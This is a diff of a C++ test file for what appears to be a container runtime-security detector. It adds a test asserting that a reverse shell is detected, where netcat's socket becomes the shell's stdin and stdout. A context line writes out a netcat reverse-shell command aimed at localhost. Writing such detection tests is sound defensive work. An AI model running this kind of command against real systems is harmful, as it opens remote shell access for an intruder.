@@ -265,6 +265,24 @@ BOOST_AUTO_TEST_CASE(package_manager_user_management_and_network_tool_in_contain
                "nc 127.0.0.1 " + std::to_string(scenario().redirect_port) + " -e /bin/sh");
 }
 
+BOOST_AUTO_TEST_CASE(reverse_shell_std_streams_are_the_socket) {
+    const BusyboxContainer& c = scenario().interactive();
+    const std::string peer = "->127.0.0.1:" + std::to_string(scenario().redirect_port);
+    // nc moved the connection onto stdin, then stdout...
+    bool both = false;
+    for (const auto* d : alerts_in("Live test std stream onto a socket", c)) {
+        BOOST_TEST(field(*d, "proc.name") == "nc");
+        BOOST_TEST(field(*d, "fd.types[0]") == "ipv4");
+        if (field(*d, "evt.rawres") == "1") both = field(*d, "fd.types[1]") == "ipv4";
+    }
+    BOOST_TEST(both, run().alerts->about("container.id", c.short_id()));
+    // ...and the shell it started reads from and writes to it.
+    const auto& a = alert_in("Live test reverse shell streams", c, "sh");
+    BOOST_TEST(field(a, "proc.stdin.type") == "ipv4");
+    BOOST_TEST(field(a, "proc.stdout.type") == "ipv4");
+    BOOST_TEST(field(a, "proc.stdin.name").ends_with(peer), field(a, "proc.stdin.name"));
+}
+
 BOOST_AUTO_TEST_CASE(capable_container_mounts_spawns_and_loads_a_module) {
     const BusyboxContainer& c = scenario().capable();
     const auto mounts = alerts_in("Mount in container", c);
